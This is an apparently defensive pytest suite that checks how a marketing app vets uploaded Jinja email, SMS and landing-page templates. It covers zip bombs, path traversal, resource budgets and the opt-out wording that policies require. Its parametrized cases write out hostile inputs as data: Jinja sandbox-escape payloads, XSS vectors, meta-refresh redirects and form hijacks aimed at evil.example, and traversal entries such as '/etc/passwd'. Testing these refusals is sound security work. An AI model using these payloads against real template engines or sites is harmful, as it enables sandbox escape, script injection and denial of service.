"""The checks an uploaded template goes through, and the render budget of the sandbox."""

from __future__ import annotations

import io
import tracemalloc
import zipfile

import pytest
from jinja2 import StrictUndefined
from jinja2.sandbox import ImmutableSandboxedEnvironment

from engine.policy import BUILT_IN, ConsentPolicy, RequiredElement, policy_for, required_elements
from engine.rendering import MAX_RENDER_BYTES, RenderError, TemplateRenderer, default_templates
from engine.services.templates import (
    MAX_TEMPLATE_BYTES,
    MAX_ZIP_ENTRIES,
    CampaignSnapshot,
    StoredTemplate,
    TemplateChecker,
    UploadReport,
    unpack_upload,
)
from tests.helpers import US_CUSTOM_SMS
from tests.unit.test_rendering import CONTEXT

CAMPAIGN_VALUES = {
    "campaign_name": "Spring",
    "offer_title": "Ten percent off",
    "offer_description": "Ten percent off your first order.",
    "brand_name": "Acme",
    "postal_address": "1 Main St, Springfield",
    "support_contact": "help@acme.example",
    "logo_url": "",
    "logo_width": "",
    "logo_height": "",
}

GOOD_HTML = (
    '<p>{{ sender_name }} sent you {{ offer_title }} from {{ brand_name }}. <a href="{{ link }}">See it</a></p>'
    '<p><a href="{{ unsubscribe_link }}">Unsubscribe</a> · {{ brand_name }}, {{ postal_address }}</p>'
)


def checker(
    policy: ConsentPolicy | None = None,
    *,
    segment_limit: int = 3,
    own: dict | None = None,
    renderer: TemplateRenderer | None = None,
) -> TemplateChecker:
    policy = policy or BUILT_IN["us"]
    snapshot = CampaignSnapshot(
        slug="spring",
        policy_name=policy.name,
        policy=policy,
        policy_problem=None,
        context=CAMPAIGN_VALUES,
        own_sources=own or {},
        sms_segment_limit=segment_limit,
        sms_smart_encoding=True,
    )
    return TemplateChecker(renderer or TemplateRenderer(), snapshot)


def zipped(*entries: tuple[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


# -- the default templates pass everything --------------------------------------------------


@pytest.mark.parametrize("policy", [BUILT_IN["us"], BUILT_IN["eu-strict"], policy_for("custom", US_CUSTOM_SMS)])
def test_the_default_templates_pass_every_check(policy: ConsentPolicy) -> None:
    check = checker(policy)
    for name, source in default_templates().items():
        assert check.check(name, source) == [], name
    assert check.check_together(dict(default_templates())) == []


# -- files and zips -------------------------------------------------------------------------


def test_an_unknown_file_name_is_refused_with_the_names_that_are_known() -> None:
    templates, refusals = unpack_upload({"mail.html": b"<p>hi</p>"})
    assert templates == {}
    assert refusals == [
        "'mail.html' is not a template file name; the file's name says which template it is: "
        "subject.txt, email.html, email.txt, sms.txt, landing.html, "
        "or one of them for a language, such as email.nl.html (or a .zip of them)"
    ]


@pytest.mark.parametrize("name", ["subject.txt", "sms.txt", "email.html"])
def test_each_file_has_its_size_budget(name: str) -> None:
    limit = MAX_TEMPLATE_BYTES[name]
    assert unpack_upload({name: b"x" * limit})[1] == []
    assert unpack_upload({name: b"x" * (limit + 1)})[1] == [
        f"{name} is {limit + 1:,} bytes; it may be at most {limit:,}"
    ]


def test_the_budgets_are_what_the_contract_says() -> None:
    assert (MAX_TEMPLATE_BYTES["email.html"], MAX_TEMPLATE_BYTES["subject.txt"], MAX_TEMPLATE_BYTES["sms.txt"]) == (
        256 * 1024,
        1024,
        2048,
    )


def test_text_must_be_utf_8_without_nul_and_a_byte_order_mark_is_dropped() -> None:
    templates, refusals = unpack_upload(
        {"subject.txt": "Caf\u00e9".encode("latin-1"), "sms.txt": b"a\x00b", "email.txt": b"\xef\xbb\xbfHi"}
    )
    assert refusals == [
        "subject.txt is not UTF-8 text (byte 0xe9 at position 3)",
        "sms.txt contains NUL characters: it is not a text file",
    ]
    assert templates == {"email.txt": "Hi"}


def test_a_zip_is_unpacked_by_the_names_of_its_files() -> None:
    data = zipped(("subject.txt", "Hi {{ sender_name }}"), ("sms.txt", "{{ link }}"), ("__MACOSX/._sms.txt", b"\0"))
    assert unpack_upload({"spring.zip": data}) == ({"subject.txt": "Hi {{ sender_name }}", "sms.txt": "{{ link }}"}, [])


@pytest.mark.parametrize(
    ("entry", "reason"),
    [
        ("../email.html", "'../email.html' has a path"),
        ("/etc/passwd", "'/etc/passwd' has a path"),
        ("templates/email.html", "'templates/email.html' has a path"),
        ("..\\email.html", "has a path"),
        ("templates/", "'templates/' is a folder"),
        ("readme.md", "'readme.md' is not a template file name"),
        ("inner.zip", "'inner.zip' is not a template file name"),
    ],
)
def test_zip_entries_with_paths_folders_or_unknown_names_are_refused(entry: str, reason: str) -> None:
    templates, refusals = unpack_upload({"t.zip": zipped(("subject.txt", "Hi"), (entry, "x"))})
    assert templates == {}  # nothing of a bad zip is taken
    assert len(refusals) == 1 and refusals[0].startswith("t.zip: ") and reason in refusals[0]


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_template_given_twice_is_refused() -> None:
    assert unpack_upload({"t.zip": zipped(("sms.txt", "a"), ("sms.txt", "b"))})[1] == [
        "t.zip: sms.txt is in the zip twice"
    ]
    assert unpack_upload({"sms.txt": b"a", "t.zip": zipped(("sms.txt", "b"))})[1] == ["t.zip: sms.txt is given twice"]


def test_a_zip_bomb_is_refused_from_its_headers_without_unpacking(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = zipped(("email.html", b"\0" * (50 * 1024 * 1024)))
    assert len(bomb) < 100 * 1024  # deflate squeezes 50 MiB of zeros into a few dozen KiB
    opened: list[str] = []
    real_open = zipfile.ZipFile.open
    monkeypatch.setattr(
        zipfile.ZipFile, "open", lambda self, name, *a, **k: opened.append(name) or real_open(self, name, *a, **k)
    )
    templates, refusals = unpack_upload({"bomb.zip": bomb})
    assert opened == []  # refused from its headers: not one byte was unpacked
    assert templates == {}
    assert refusals == [
        "bomb.zip: email.html is 52,428,800 bytes; it may be at most 262,144",
        "bomb.zip unpacks to 52,428,800 bytes; a zip may unpack to at most 592,896",
    ]


def test_a_zip_whose_headers_lie_about_sizes_is_read_no_further_than_the_budget() -> None:
    honest = zipped(("sms.txt", b"x" * 100_000), compression=zipfile.ZIP_STORED)
    # Rewrite the uncompressed size in the local and central headers to 100 bytes.
    lying = honest.replace((100_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))
    templates, refusals = unpack_upload({"liar.zip": lying})
    assert templates == {}
    assert len(refusals) == 1 and refusals[0].startswith("liar.zip: sms.txt")


def test_a_zip_with_too_many_entries_or_that_is_not_a_zip_is_refused() -> None:
    many = zipped(*[(f"f{i}.txt", "x") for i in range(MAX_ZIP_ENTRIES + 1)])
    assert unpack_upload({"many.zip": many})[1] == [
        f"many.zip holds {MAX_ZIP_ENTRIES + 1} entries; a zip may hold at most {MAX_ZIP_ENTRIES}"
    ]
    assert unpack_upload({"t.zip": b"PK\x03\x04 not really"})[1] == ["t.zip is not a readable zip file"]


def test_non_utf_8_in_a_zip_names_the_zip() -> None:
    assert unpack_upload({"t.zip": zipped(("sms.txt", b"\xff"))})[1] == [
        "t.zip: sms.txt is not UTF-8 text (byte 0xff at position 0)"
    ]


# -- syntax, statements, variables ---------------------------------------------------------------


def test_a_syntax_error_names_the_file_and_line() -> None:
    assert checker().check("email.txt", "Hi\n{% if sender_name %}") == [
        "email.txt, line 2: syntax error: Unexpected end of template. Jinja was looking for the following tags: "
        "'elif' or 'else' or 'endif'. The innermost block that needs to be closed is 'if'."
    ]


@pytest.mark.parametrize(
    ("source", "statement"),
    [
        ("{% include 'email.txt' %}", "{% include %}"),
        ("{% extends '/etc/passwd' %}", "{% extends %}"),
        ("x\n{% import 'macros.html' as m %}", "{% import %}"),
        ("{% from 'macros.html' import m %}", "{% from ... import %}"),
    ],
)
def test_templates_cannot_pull_in_other_files(source: str, statement: str) -> None:
    problems = checker().check("subject.txt", source)
    line = source.count("\n") + 1
    assert problems == [f"subject.txt, line {line}: {statement} is not allowed; a template is one self-contained file"]


def test_unknown_variables_are_listed_with_what_may_be_used() -> None:
    problems = checker().check(
        "email.txt", "{{ frend }} {{ sender_name }} {% for x in items %}{{ x }}{{ loop.index }}{% endfor %}"
    )
    assert len(problems) == 1
    assert problems[0].startswith("email.txt: unknown variables frend, items; a template may use brand_name, ")
    assert "unsubscribe_link" in problems[0]


def test_the_landing_page_knows_the_campaign_but_not_a_message() -> None:
    problems = checker().check("landing.html", "<h1>{{ offer_title }}</h1><p>{{ sender_name }}</p>")
    assert problems[0].startswith("landing.html: unknown variables sender_name;")


# -- hostile templates ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ sender_name.__class__ }}",
        "{{ sender_name|attr('__class__') }}",
        "{{ 'a{0.__class__}'.format(sender_name) }}",
        "{{ 'a{x.__class__}'.format_map({'x': sender_name}) }}",
        "{{ ('a{0.__class__.__mro__}'|attr('format'))(sender_name) }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ namespace.__init__.__globals__.os }}",
        "{{ range.__self__ }}",
    ],
)
def test_python_internals_are_out_of_reach(source: str) -> None:
    problems = checker().check("subject.txt", source)
    assert len(problems) == 1 and problems[0].startswith("subject.txt: ")


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}", "too much work"),
        ("{% set l = [1,2,3,4,5,6,7,8,9,0] %}" + "{% for a in l %}" * 7 + "{% endfor %}" * 7, "too much work"),
        ("{% for i in range(1000000) %}x{% endfor %}", "limited to 10,000"),
        ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "nest too deeply"),
        ("{% macro f(n) %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}{{ f(40) }}", "too much work"),
        (
            "{% for c in note %}{% for d in note %}{% for e in note %}{% endfor %}{% endfor %}{% endfor %}",
            "too much work",
        ),
        ("{{ 'x' * 1000000000 }}", "repetition (*)"),
        ("{{ ([offer_title * 1000] * 1000)|join }}", "more than"),
        ("{% set ns = namespace(s=note) %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}", "(~)"),
        ("{% set ns = namespace(s=note) %}{% for i in range(60) %}{% set ns.s = ns.s + ns.s %}{% endfor %}", "(+)"),
        ("{{ 7 ** 9999999 }}", "too large a number"),
        ("{{ 'x'|center(999999999) }}", "limited to 10,000"),
        ("{{ 'x'.ljust(5) }}", "access to attribute 'ljust' of 'str' object is unsafe"),
        ("{{ '%999999999d' % 1 }}", "format widths"),
        ("{{ '{:>999999999}'.format(1) }}", "format widths"),
        ("{{ note|replace('', note)|replace('', note)|replace('', note) }}", "replaced text"),
        ("{% set x %}{% for i in range(10000) %}{{ note }}{{ note }}{% endfor %}{% endset %}", "writes more than"),
        ("{{ lipsum(10000) }}", "unknown variables lipsum"),
        ("{{ [1]|tojson(indent=999) }}", "email.txt, line 1: syntax error: No filter named 'tojson'"),
    ],
)
def test_hostile_templates_are_refused_within_the_budget(source: str, reason: str) -> None:
    # On a clock that never moves, so that only counted work and memory can refuse them: the
    # verdict is the same on an idle laptop and on a busy machine.
    problems, peak = checked_with_peak_memory("email.txt", source)
    assert len(problems) == 1 and reason in problems[0], problems
    assert peak < MEMORY_CEILING, f"{peak / MiB:.1f} MiB"


class FrozenClock:
    def __call__(self) -> float:
        return 1000.0


MiB = 1024 * 1024
# What checking one template may take at its peak: the render budget, and room for the
# interpreter's own bookkeeping (tracemalloc counts every allocation, compiling included).
MEMORY_CEILING = MAX_RENDER_BYTES + 8 * MiB


def checked_with_peak_memory(name: str, source: str) -> tuple[list[str], int]:
    check = checker(renderer=TemplateRenderer(clock=FrozenClock()))
    tracemalloc.start()
    try:
        problems = check.check(name, source)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return problems, peak


BIG = "{% set big = 'x' * 500000 %}"
WIDE = "{% set wide = '\u6f22' * 500000 %}"  # a character that takes 2 bytes in memory


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        # What a call returns is measured before it is built, format strings included.
        ("{{ ('{x:\U0001f600>9999}' * 2000).format(x=1) }}", "the formatted text would be more than"),
        ("{{ ('{x:\U0001f600>9999}' * 2000).format_map({'x': 1}) }}", "the formatted text would be more than"),
        ("{{ ('%9999s' * 2000)|format(*range(2000)) }}", "the formatted text would be more than"),
        ("{{ ('%9999s' * 2000) % ((1,) * 2000) }}", "the formatted text would be more than"),
        ("{{ '{:{w}}'.format(1, w=9999) }}", "format widths"),
        # Values nested deeper than 8 levels are not weighed as nothing.
        ("{% set a = [[[[[[[[[['x' * 500000]]]]]]]]]] %}{{ (a * 10000)|string|length }}", "nest"),
        ("{% set a = [[[[[[[[[['x']]]]]]]]]] %}{{ a }}", "nest"),
        (
            "{% set ns = namespace(a=1) %}{% for i in range(40) %}{% set ns.a = [ns.a, ns.a] %}{% endfor %}{{ ns }}",
            "nest",
        ),
        # Printing a list writes its items' repr, up to 10 characters for one.
        ("{% set a = ['\x01' * 100000] %}{{ a|string|length }}", "more than 524,288 characters"),
        ("{% set a = ['\x01' * 100000] %}{{ a }}", "more than 524,288 characters"),
        ("{% set a = ['\x01' * 100000] %}{{ a ~ '' }}", "more than 524,288 characters"),
        # Memory: every value a render builds counts, not only the largest one.
        (BIG + "{{ [" + ", ".join(f"big ~ {i}" for i in range(300)) + "]|length }}", "more than 16 MiB"),
        (BIG + "{% for i in range(1000) %}{% set b = big[i:] %}{% endfor %}", "more than 16 MiB"),
        (BIG + "{% for i in range(1000) %}{% set b = big.upper() %}{% endfor %}", "more than 16 MiB"),
        (WIDE + "{{ wide|urlencode|length }}", "more than"),
        (WIDE + "{{ wide|list|length }}", "more than"),
        (WIDE + "{{ wide|map('upper')|list|length }}", "more than"),
        (WIDE + "{{ wide.split('')|length }}", "ValueError"),
        (BIG + "{{ (big|replace('x', 'x,')).split(',')|length }}", "more than"),
        # Work: reading a long string is work in proportion to its length.
        (BIG + "{% for i in range(10000) %}{% if big.count('y') %}{% endif %}{% endfor %}", "too much work"),
        # The output stops at its budget, as it is written.
        ("{% for i in range(10000) %}{{ note * 100 }}{% endfor %}", "output larger than"),
    ],
)
def test_what_every_operation_builds_is_within_the_budget(source: str, reason: str) -> None:
    problems, peak = checked_with_peak_memory("email.txt", source)
    assert len(problems) == 1 and reason in problems[0], problems
    assert peak < MEMORY_CEILING, f"{peak / MiB:.1f} MiB"


@pytest.mark.parametrize(
    "source",
    [
        "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
        "{{ " + "[" * 3000 + "1" + "]" * 3000 + " }}",
        "{{ " + "-" * 30000 + "1 }}",
        "{{ " + "not " * 5000 + "true }}",
        "{{ 1" + " + 1" * 20000 + " }}",
        "{{ brand_name" + "|e" * 5000 + " }}",
        "{{ brand_name" + ".upper()" * 3000 + " }}",
        "{% if true %}" * 300 + "x" + "{% endif %}" * 300,
        "{% for a in [1] %}" * 30 + "x" + "{% endfor %}" * 30,
    ],
)
def test_templates_that_nest_too_deeply_are_refused_with_a_reason(source: str) -> None:
    problems = checker().check("email.txt", source)
    assert len(problems) == 1 and "nests too deeply" in problems[0], problems
    with pytest.raises(RenderError, match="nests too deeply"):
        TemplateRenderer().render("email.txt", source, CONTEXT)


def test_ten_levels_of_blocks_are_fine() -> None:
    source = "{% for a in [1] %}{% if a %}" * 5 + "{{ brand_name }}" + "{% endif %}{% endfor %}" * 5
    assert TemplateRenderer().render("sms.txt", source, CONTEXT) == "Koffie & Co"


class SteppingClock:
    """Moves on a fixed amount every time it is read: a slow machine, simulated."""

    def __init__(self, seconds_per_reading: float) -> None:
        self.now = 0.0
        self.step = seconds_per_reading

    def __call__(self) -> float:
        self.now += self.step
        return self.now


def test_the_time_budget_is_measured_on_the_renderers_clock() -> None:
    source = "{% for i in range(100) %}{{ i }}{% endfor %}"
    assert TemplateRenderer(clock=SteppingClock(0.001)).render("sms.txt", source, CONTEXT).endswith("99")
    with pytest.raises(RenderError, match="takes longer than 2 seconds"):
        TemplateRenderer(clock=SteppingClock(0.1)).render("sms.txt", source, CONTEXT)


def test_the_worst_landing_page_within_the_budget_stays_within_its_memory() -> None:
    # The landing page renders on every anonymous view: the heaviest one an upload accepts must
    # still cost no more than the budget each time.
    landing = (
        "<h1>{{ offer_title }}</h1>{% set big = 'x' * 400000 %}{% set wide = '\U0001f600' * 100000 %}"
        "{% for i in range(3) %}{% set b = (big ~ wide)[i:] %}{% endfor %}{{ (wide * 5)|length }}"
    )
    problems, peak = checked_with_peak_memory("landing.html", landing)
    assert problems == []
    assert peak < MEMORY_CEILING, f"{peak / MiB:.1f} MiB"


def test_the_render_budget_also_guards_sending() -> None:
    # The same limits apply to every render, not only to the checks at upload.
    with pytest.raises(RenderError, match="too much work"):
        TemplateRenderer(clock=FrozenClock()).render(
            "sms.txt", "{% for i in range(9999) %}{% for j in range(99) %}{% endfor %}{% endfor %}", CONTEXT
        )


# What a landing page may do on one view: a fifth of a message's work, an eighth of its time.
BETWEEN_THE_BUDGETS = "{% for i in range(10000) %}{% for j in range(2) %}{% endfor %}{% endfor %}done"


def test_the_landing_page_gets_a_smaller_budget_than_a_message() -> None:
    # It renders on every anonymous view; a message renders once for one friend.
    renderer = TemplateRenderer(clock=FrozenClock())
    assert renderer.render("sms.txt", BETWEEN_THE_BUDGETS, CONTEXT) == "done"
    assert renderer.render("email.html", BETWEEN_THE_BUDGETS, CONTEXT) == "done"
    with pytest.raises(RenderError, match=r"landing\.html: the template does too much work"):
        renderer.render("landing.html", BETWEEN_THE_BUDGETS, CONTEXT)
    # The same on time: a hundred steps of a slow machine's 5 ms are half a second.
    source = "{% for i in range(100) %}{{ i }}{% endfor %}"
    assert TemplateRenderer(clock=SteppingClock(0.005)).render("sms.txt", source, CONTEXT).endswith("99")
    with pytest.raises(RenderError, match=r"takes longer than 0\.25 seconds"):
        TemplateRenderer(clock=SteppingClock(0.005)).render("landing.html", source, CONTEXT)


def test_a_landing_page_over_its_budget_is_refused_at_upload() -> None:
    # A clock that stands still: the work budget must catch it, however busy the machine is.
    frozen = checker(renderer=TemplateRenderer(clock=FrozenClock()))
    problems = frozen.check("landing.html", "<h1>{{ offer_title }}</h1>" + BETWEEN_THE_BUDGETS)
    assert any("too much work" in problem for problem in problems), problems


@pytest.mark.parametrize("name", ["landing.html", "sms.txt"])
@pytest.mark.parametrize(
    "source",
    [
        "{{ ([range(9)|list] * 9999)|sum(start=[]) }}",
        "{{ ([range(9)|list] * 9999)|sum(none, []) }}",
        "{{ (['abc'] * 9999)|sum(start='') }}",
        "{% set ns = namespace(s=[]) %}{{ ([ns] * 99)|sum(attribute='s', start=[]) }}",
    ],
)
def test_sum_adds_numbers_only_and_is_refused_before_it_concatenates(name: str, source: str) -> None:
    # Adding up lists copies the growing list once per item: one call that no step sees.
    with pytest.raises(RenderError, match="sum adds up numbers only"):
        TemplateRenderer(clock=FrozenClock()).render(name, source, CONTEXT)


def test_sum_of_numbers_still_works() -> None:
    source = "{{ [1, 2, 3]|sum }} {{ [1.5, 2]|sum(start=1) }} {{ range(5)|sum }}"
    assert TemplateRenderer().render("sms.txt", source, CONTEXT) == "6 4.5 10"


def test_ordinary_templates_render_as_in_the_plain_sandbox() -> None:
    source = (
        "{% for word in offer_title.split() %}{{ loop.index }}:{{ word|upper }} {% endfor %}"
        "{{ '%05.1f'|format(2.5) }} {{ ['a', 'b']|join(', ') }} {{ sender_name ~ '!' }} {{ 'ab' * 2 }}"
        "{% set ns = namespace(n=0) %}{% for i in range(3) %}{% set ns.n = ns.n + i %}{% endfor %}{{ ns.n }}"
        "{{ offer_description|truncate(12) }} {{ note|wordwrap(5) }} {{ 2 ** 10 }} {{ '{:>6}'.format('x') }}"
        "{% macro shout(text) %}{{ text|upper }}!{% endmacro %}{{ shout(brand_name) }}"
        "{{ note|replace('soon', 'later') }}"
        "{{ offer_title|center(20) }}|{{ 'a\nb'|indent(2) }}"
    )
    plain = ImmutableSandboxedEnvironment(undefined=StrictUndefined).from_string(source).render(CONTEXT)
    assert TemplateRenderer().render("sms.txt", source, CONTEXT) == plain


# -- HTML ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "problem"),
    [
        ("<script>alert(1)</script>", "line 2: <script> is not allowed"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "line 2: <script> is not allowed"),
        ('<img src="x.png" onerror="alert(1)">', "line 2: <img onerror>: inline event handlers are not allowed"),
        ('<a href="javascript:alert(1)">x</a>', "line 2: <a href>: script links are not allowed"),
        ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "line 2: <a href>: script links are not allowed"),
        ('<iframe src="https://evil.example"></iframe>', "line 2: <iframe> is not allowed"),
        ('<form action="https://evil.example"><input name="card"></form>', "line 2: <form> is not allowed"),
        ("{% if false %}<embed src=x>{% endif %}", "line 2: <embed> is not allowed"),
        ("{{ ('<scr' ~ 'ipt>x</script>')|safe }}", "in what it renders: <script> is not allowed"),
    ],
)
def test_scripts_handlers_frames_and_forms_are_refused_in_email_html(html: str, problem: str) -> None:
    problems = checker().check("email.html", GOOD_HTML + "\n" + html)
    assert len(problems) == 1 and problem in problems[0], problems
    assert problems[0].startswith("email.html")


@pytest.mark.parametrize(
    ("html", "problem"),
    [
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta http-equiv=refresh>"),
        ("<META HTTP-EQUIV=Refresh CONTENT='0; URL=https://evil.example'>", "<meta http-equiv=refresh>"),
        ('<meta  http-equiv = " REFRESH\t" content="5">', "<meta http-equiv=refresh>"),
        ('<meta http-equiv="&#82;efresh" content="0;url=javascript:alert(1)">', "<meta http-equiv=refresh>"),
        ('<base href="https://evil.example/">', "<base> is not allowed"),
        ('<BASE target="_top">', "<base> is not allowed"),
        (
            '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>go</text></a></svg>',
            "<animate attributename=href>",
        ),
        (
            '<svg><a><set attributeName=" xlink:HREF" to="https://evil.example"/><text>go</text></a></svg>',
            "<set attributename=xlink:href>",
        ),
        ('<svg><a xlink:href="javascript:alert(1)"><text>go</text></a></svg>', "<a xlink:href>: script links"),
        ('<svg><a XLINK:HREF=" &#x6A;avascript:alert(1)"><text>go</text></a></svg>', "<a xlink:href>: script links"),
        ('<button formaction="javascript:alert(1)">Go</button>', "<button formaction>"),
        ('<button formaction="https://evil.example/collect">Send</button>', "<button formaction>"),
        ('<input form="forward" name="friend_email" value="spam@example.com">', "<input form>"),
        ("{{ ('<meta http-equiv=refresh content=0;url=' ~ brand_name ~ '>')|safe }}", "in what it renders: <meta"),
    ],
)
def test_redirects_base_urls_svg_link_animations_and_form_hijacks_are_refused(html: str, problem: str) -> None:
    # On the landing page they would act on our own site, beside the send-to-friend form.
    for name, good in (("landing.html", "<h1>{{ offer_title }}</h1>"), ("email.html", GOOD_HTML)):
        problems = checker().check(name, good + "\n" + html)
        assert len(problems) == 1 and problem in problems[0], problems


@pytest.mark.parametrize(
    "html",
    [
        '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
        '<meta name="viewport" content="width=device-width">',
        '<svg><animate attributeName="opacity" values="0;1" dur="1s"/></svg>',
        '<svg><a href="https://example.com"><text>go</text></a></svg>',
    ],
)
def test_ordinary_head_and_svg_markup_is_fine(html: str) -> None:
    assert checker().check("landing.html", "<h1>{{ offer_title }}</h1>" + html) == []


def test_html_in_a_comment_of_the_template_is_not_html() -> None:
    assert checker().check("email.html", GOOD_HTML + "{# <script>x</script> #}") == []


def test_the_landing_page_gets_the_same_html_checks() -> None:
    problems = checker().check("landing.html", "<h1>{{ offer_title }}</h1><form action=/x></form>")
    assert problems == ["landing.html, line 1: <form> is not allowed (it would run on our site)"]


# -- what the policy requires ---------------------------------------------------------------------

BARE_EMAIL = "<p>{{ offer_title }}: <a href='{{ link }}'>see it</a></p>"


@pytest.mark.parametrize(
    ("policy", "missing"),
    [
        (
            BUILT_IN["us"],
            ["the unsubscribe link", "the sender's identity, the brand name", "the brand's postal address"],
        ),
        (
            BUILT_IN["eu-strict"],
            ["the unsubscribe link", "the sender's identity", "the name of the friend who sent it"],
        ),
        (
            policy_for("custom", US_CUSTOM_SMS),
            ["the unsubscribe link", "the sender's identity", "postal address", "the name of the friend who sent it"],
        ),
    ],
)
def test_everything_the_policy_requires_is_listed_in_one_refusal(policy: ConsentPolicy, missing: list[str]) -> None:
    for name in ("email.html", "email.txt"):
        problems = checker(policy).check(name, BARE_EMAIL)
        assert len(problems) == 1
        assert problems[0].startswith(f"{name} lacks what the campaign's {policy.name} policy requires: ")
        for element in missing:
            assert element in problems[0]
    assert "postal address" not in checker(BUILT_IN["eu-strict"]).check("email.txt", BARE_EMAIL)[0]
    assert "friend who sent it" not in checker(BUILT_IN["us"]).check("email.txt", BARE_EMAIL)[0]


def test_share_only_sends_no_email_so_requires_nothing_of_it() -> None:
    assert checker(BUILT_IN["share-only"]).check("email.txt", BARE_EMAIL) == []


@pytest.mark.parametrize(
    "hidden",
    [
        "{# {{ unsubscribe_link }} #}",
        "<!-- {{ unsubscribe_link }} -->",
        "{% if false %}{{ unsubscribe_link }}{% endif %}",
        "{% if sender_name == 'nobody' %}{{ unsubscribe_link }}{% endif %}",
        "<style>/* {{ unsubscribe_link }} */</style>",
    ],
)
def test_a_required_variable_that_never_shows_does_not_count(hidden: str) -> None:
    source = "<p>{{ brand_name }}, {{ postal_address }}</p>" + hidden
    problems = checker().check("email.html", source)
    assert problems == [
        "email.html lacks what the campaign's us policy requires: the unsubscribe link ({{ unsubscribe_link }})"
    ]


def test_a_required_variable_in_a_link_counts() -> None:
    source = "<p>{{ brand_name }}, {{ postal_address }} <a href='{{ unsubscribe_link }}'>stop</a></p>"
    assert checker().check("email.html", source) == []


# The carriers' wording, in each language Fluister speaks.
OPT_OUT_WORDS = (
    '"Reply STOP" or "Text STOP" or "Stuur STOP" or "Sms STOP" or "Antwoord STOP" or "Répondez STOP" or '
    '"Réponds STOP" or "Envoyez STOP" or "Envoie STOP")'
)


def test_sms_needs_the_brand_and_a_way_to_stop_where_the_server_texts() -> None:
    us = checker(BUILT_IN["us"])
    assert us.check("sms.txt", "{{ brand_name }}: {{ offer_title }} {{ link }} Reply STOP to opt out") == []
    assert us.check("sms.txt", "{{ brand_name }}: {{ link }} Opt out: {{ unsubscribe_link }}") == []
    assert us.check("sms.txt", "{{ offer_title }} {{ link }} reply stop") == [
        "sms.txt lacks what the campaign's us policy requires: the sender's identity, the brand name "
        "({{ brand_name }}); a way to opt out ({{ unsubscribe_link }} or the words " + OPT_OUT_WORDS
    ]
    # eu-strict never texts a friend from the server: the text is the consumer's own to share.
    assert checker(BUILT_IN["eu-strict"]).check("sms.txt", "{{ offer_title }} {{ link }}") == []


@pytest.mark.parametrize(
    "wording",
    [
        "Reply STOP to opt out",
        "Reply STOP to cancel.",
        "Text STOP to 12345 to stop these texts",
        "Reply\nSTOP to end",
        "Stuur STOP om je af te melden",
        "Répondez STOP pour vous désabonner",
    ],
)
def test_the_carriers_opt_out_wording_counts(wording: str) -> None:
    assert checker().check("sms.txt", "{{ brand_name }}: {{ offer_title }} {{ link }} " + wording) == []


@pytest.mark.parametrize(
    "wording",
    ["Don't STOP now!", "STOP", "STOPALL the noise", "Reply stop to opt out", "Reply STOPPED", "Unsubscribe: reply"],
)
def test_stop_outside_the_carriers_wording_is_not_a_way_to_opt_out(wording: str) -> None:
    problems = checker().check("sms.txt", "{{ brand_name }}: {{ offer_title }} {{ link }} " + wording)
    assert problems == [
        "sms.txt lacks what the campaign's us policy requires: "
        "a way to opt out ({{ unsubscribe_link }} or the words " + OPT_OUT_WORDS
    ]


def test_the_default_text_says_reply_stop_to_opt_out() -> None:
    sms = TemplateRenderer().render_sms(default_templates(), CONTEXT, segment_limit=3)
    assert "Reply STOP to opt out" in sms
    assert "Koffie & Co" in sms  # the brand, as the carriers ask


def test_an_sms_over_the_campaign_segment_limit_is_refused() -> None:
    problems = checker(segment_limit=1).check_together(
        {"sms.txt": "{{ brand_name }} STOP " + "{{ offer_description }} " * 6}
    )
    assert len(problems) == 1 and "at most 1" in problems[0] and problems[0].startswith("sms.txt: ")


def test_an_empty_subject_is_refused() -> None:
    assert checker().check("subject.txt", "{% if false %}x{% endif %}") == []  # alone it is only text...
    problems = checker().check_together({"subject.txt": "{% if false %}x{% endif %}"})
    assert problems == ["subject.txt: renders to an empty subject (with sample values)"]


def test_a_text_part_is_derived_when_only_html_is_uploaded() -> None:
    assert checker().check_together({"email.html": GOOD_HTML}) == []


# -- the value objects ----------------------------------------------------------------------------


def test_only_message_templates_have_policy_requirements() -> None:
    for name in ("subject.txt", "landing.html"):
        assert required_elements(policy_for("custom", US_CUSTOM_SMS), name) == ()
    assert required_elements(BUILT_IN["share-only"], "sms.txt") == ()


def test_a_required_element_needs_a_way_to_be_satisfied() -> None:
    with pytest.raises(ValueError):
        RequiredElement("nothing", ())


def test_an_upload_report_either_stores_or_refuses() -> None:
    with pytest.raises(ValueError):
        UploadReport()
    with pytest.raises(ValueError):
        UploadReport(stored=(StoredTemplate("sms.txt", 2),), refusals=("no",))
    with pytest.raises(ValueError):
        StoredTemplate("notes.md", 1)
    assert UploadReport(refusals=("no",)).accepted is False
